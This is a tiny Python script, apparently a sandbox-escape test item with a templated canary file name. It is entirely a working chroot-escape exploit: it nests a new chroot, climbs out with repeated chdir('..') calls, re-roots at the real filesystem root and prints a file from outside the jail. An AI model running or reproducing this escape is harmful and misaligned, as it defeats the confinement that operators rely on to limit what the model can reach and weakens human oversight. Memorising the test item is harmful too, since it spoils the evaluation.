import os

os.mkdir("jail")
os.chroot("jail")
for _ in range(100):
    os.chdir("..")
os.chroot(".")
print(open("{{CANARY}}").read())
